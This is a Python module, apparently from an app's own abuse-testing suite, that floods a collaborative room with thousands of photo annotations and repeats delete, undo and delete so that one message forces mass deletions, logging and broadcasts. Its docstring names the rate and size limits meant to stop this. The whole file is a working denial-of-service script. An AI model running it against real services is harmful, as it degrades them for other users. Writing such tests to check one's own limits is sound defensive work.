"""Annotations of one parent, deleted together.

Does: hangs groups of 400 annotations on one photo in the victim's room, deletes the photo, undoes that, deletes it
    again and starts over.
Breaks: one small message makes the committer delete, log and broadcast thousands of elements.
Limit: `element-annotations`, `commit-elements`; `commits-per-second`, where twenty elements count for one;
    `undo-entry-bytes`.
"""

import os

from lines import commit, guest

PROOF = "cascades"

ANNOTATIONS = 400
GROUPS = 5


async def attack(target):
    await target.crowd(2, cascade)


async def cascade(target):
    async with await guest(target, target.room) as line:
        while target.is_on():
            parent = f"parent-{os.urandom(6).hex()}"
            photo = {"type": "photo", "id": parent, "width": 200, "height": 100}
            await commit(target, line, "element:create", {"element": photo})
            for _ in range(GROUPS):
                await commit(target, line, "elements:create", {"elements": annotations(parent)})
                target.tally("annotations", ANNOTATIONS)
            for name in ("element:delete", "history:undo", "element:delete"):
                await commit(target, line, name, {"elementId": parent})
                target.tally("cascades")


def annotations(parent):
    place = {"parentId": parent, "space": "normalized", "positionX": 0.5, "positionY": 0.5}
    return [{"type": "text", "id": os.urandom(6).hex(), **place} for _ in range(ANNOTATIONS)]
